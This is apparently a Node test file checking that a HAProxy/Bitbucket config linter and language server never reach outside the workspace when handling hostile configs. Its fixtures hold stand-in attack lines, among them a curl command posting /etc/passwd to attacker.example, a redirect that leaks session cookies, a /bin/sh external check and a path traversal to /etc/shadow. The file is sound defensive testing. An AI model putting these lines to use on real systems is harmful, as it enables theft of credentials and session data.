/**
 * The language server and the CLI never execute, fetch or resolve anything a config names,
 * and read no file outside the workspace except what the user opened. Both run here with
 * trap.js preloaded: DNS, outgoing connections, child processes and file reads outside the
 * project and the workspace are refused and recorded, and the record must stay empty while
 * every feature runs over configs full of host names, URLs, file paths and commands.
 */
import { test } from 'node:test';
import * as assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { pathToFileURL } from 'node:url';
import { ROOT } from './support';
import { ServerProcess } from './lsp-process';

const HAPROXY = `global
    log 203.0.113.10:514 local0
    log ring@remote-ring local1
    lua-load /etc/haproxy/steal.lua
    ca-base /etc/ssl/certs
    crt-base /root/private
    external-check
    ssl-default-bind-options ssl-min-ver TLSv1.2
    setenv SECRET \${HOME}

resolvers corp
    nameserver dns1 8.8.8.8:53
    nameserver dns2 dns.attacker.example:53

defaults
    mode http
    timeout connect 5s
    timeout client 30s
    timeout server 30s
    errorfile 503 /etc/passwd

frontend fe
    bind 127.0.0.1:8443 ssl crt /etc/ssl/private/site.pem ca-file ../../../../etc/shadow
    acl blocked src -f /etc/haproxy/blocklist.acl
    http-request redirect location https://attacker.example/collect?c=%[req.cook(session)]
    http-request set-header X-Forwarded-For %[src]
    http-request lua.exfiltrate
    use_backend %[req.hdr(host),lower,map(/etc/haproxy/hosts.map,be_app)]
    default_backend be_app

backend be_app
    option external-check
    external-check command /bin/sh
    external-check path "/usr/bin:/bin"
    server app1 bitbucket.internal.example:7990 check resolvers corp
    server app2 10.0.0.12:7990 check ssl verify required ca-file /etc/ssl/ca.pem crt /root/client.pem
    server-template dyn 1-3 _bitbucket._tcp.service.consul resolvers corp

program exfil
    command /usr/bin/curl -d @/etc/passwd https://attacker.example/
`;

const PROPERTIES = `setup.baseUrl=https://git.attacker.example/bitbucket
server.context-path=/bitbucket
server.proxy-name=git.attacker.example
server.proxy-port=443
server.scheme=https
server.secure=true
jdbc.url=jdbc:postgresql://db.attacker.example:5432/bitbucket
jdbc.user=bitbucket
plugin.bitbucket-git.path.executable=/usr/bin/curl
hazelcast.network.tcpip.members=node1.attacker.example:5701
`;

const SERVER_XML = `<?xml version="1.0" encoding="utf-8"?>
<Server port="8006" shutdown="SHUTDOWN">
  <Service name="Catalina">
    <Connector port="7990" protocol="HTTP/1.1" proxyName="git.attacker.example" proxyPort="443" scheme="https" secure="true"
               keystoreFile="/etc/ssl/private/keystore.jks" />
  </Service>
</Server>
`;

function workspace(): { dir: string; log: string } {
  const dir = mkdtempSync(path.join(tmpdir(), 'hb-security-'));
  const ws = path.join(dir, 'workspace');
  mkdirSync(path.join(ws, 'conf'), { recursive: true });
  writeFileSync(path.join(ws, 'haproxy.cfg'), HAPROXY);
  writeFileSync(path.join(ws, 'bitbucket.properties'), PROPERTIES);
  writeFileSync(path.join(ws, 'conf', 'server.xml'), SERVER_XML);
  return { dir: ws, log: path.join(dir, 'trap.log') };
}

function violations(log: string): string[] {
  return existsSync(log) ? readFileSync(log, 'utf8').split('\n').filter(Boolean) : [];
}

const TRAP = path.join(__dirname, 'trap.js');

test('the trap works: it records a DNS lookup, a connection, a child process and a read outside', () => {
  const { dir, log } = workspace();
  const probe = `
    const fs = require('fs');
    try { fs.readFileSync('/etc/hostname'); } catch {}
    try { require('child_process').execSync('true'); } catch {}
    try { require('net').connect(9, '127.0.0.1').on('error', () => {}); } catch {}
    require('dns').lookup('attacker.example', () => {});
    fs.readFileSync(${JSON.stringify(path.join(dir, 'haproxy.cfg'))});
  `;
  const r = spawnSync(process.execPath, ['--require', TRAP, '-e', probe], {
    encoding: 'utf8',
    env: { ...process.env, HB_TRAP_ALLOW: [ROOT, dir].join(path.delimiter), HB_TRAP_LOG: log },
  });
  assert.equal(r.status, 0, r.stderr);
  const seen = violations(log).join('\n');
  for (const what of ['fs.readFileSync /etc/hostname', 'child_process.execSync', 'net.connect', 'dns.lookup']) {
    assert.ok(seen.includes(what), `the trap missed ${what}:\n${seen}`);
  }
  assert.ok(!seen.includes('haproxy.cfg'), 'a read inside the workspace was refused');
});

test('the CLI checks configs naming hosts, files, URLs and commands without touching any of them', () => {
  const { dir, log } = workspace();
  const r = spawnSync(process.execPath, ['--require', TRAP, path.join(ROOT, 'bin', 'haproxy-bitbucket-lint.js'), '--format', 'json', dir], {
    encoding: 'utf8',
    env: { ...process.env, HB_TRAP_ALLOW: [ROOT, dir].join(path.delimiter), HB_TRAP_LOG: log },
  });
  assert.ok(r.status === 0 || r.status === 1, `exit ${r.status}: ${r.stderr}`);
  const files = JSON.parse(r.stdout).files.map((f: { path: string }) => path.basename(f.path));
  assert.ok(files.includes('haproxy.cfg') && files.includes('bitbucket.properties'), r.stdout.slice(0, 500));
  assert.deepEqual(violations(log), []);
});

test('the language server answers every request on such configs without touching what they name', async () => {
  const { dir, log } = workspace();
  const root = pathToFileURL(dir).href;
  const server = new ServerProcess({
    preload: TRAP,
    env: { HB_TRAP_ALLOW: [ROOT, dir].join(path.delimiter), HB_TRAP_LOG: log },
    rootUri: root,
    settings: { validation: { debounceMs: 0 }, haproxyVersion: '2.6' },
  });
  try {
    await server.initialize();
    const docs: [string, string, string][] = [
      [`${root}/haproxy.cfg`, 'haproxy', HAPROXY],
      [`${root}/bitbucket.properties`, 'bitbucket-properties', PROPERTIES],
      [`${root}/conf/server.xml`, 'xml', SERVER_XML],
    ];
    for (const [uri, language, text] of docs) await server.open(uri, language, text);
    for (const [uri] of docs.slice(0, 2)) {
      const published = await server.diagnostics(uri, 1);
      assert.ok(published.diagnostics.length > 0, `${uri} got no diagnostics`);
    }
    const cfg = docs[0][0];
    const lines = HAPROXY.split('\n');
    // Hover, completion, definitions and references on every word that names something outside.
    for (const needle of ['203.0.113.10', '/etc/haproxy/steal.lua', 'dns.attacker.example', '/etc/passwd', '/etc/ssl/private/site.pem', 'attacker.example/collect', 'bitbucket.internal.example', '_bitbucket._tcp', '/usr/bin/curl', '/bin/sh']) {
      const line = lines.findIndex((l) => l.includes(needle));
      assert.ok(line >= 0, needle);
      const position = { line, character: lines[line].indexOf(needle) + 1 };
      const at = { textDocument: { uri: cfg }, position };
      await server.request('textDocument/hover', at);
      await server.request('textDocument/completion', at);
      await server.request('textDocument/definition', at);
      await server.request('textDocument/references', { ...at, context: { includeDeclaration: true } });
    }
    const whole = { start: { line: 0, character: 0 }, end: { line: lines.length, character: 0 } };
    await server.request('textDocument/codeAction', { textDocument: { uri: cfg }, range: whole, context: { diagnostics: [] } });
    await server.request('textDocument/formatting', { textDocument: { uri: cfg }, options: { tabSize: 4, insertSpaces: true } });
    await server.request('textDocument/documentSymbol', { textDocument: { uri: cfg } });
    await server.request('textDocument/foldingRange', { textDocument: { uri: cfg } });
    await server.request('workspace/symbol', { query: 'be' });
    const props = docs[1][0];
    await server.request('textDocument/hover', { textDocument: { uri: props }, position: { line: 0, character: 20 } });
    await server.request('textDocument/completion', { textDocument: { uri: props }, position: { line: 6, character: 3 } });
    assert.ok(server.alive, 'the server died');
    assert.deepEqual(violations(log), [], `the server reached outside:\n${server.stderr}`);
  } finally {
    await server.stop();
  }
});
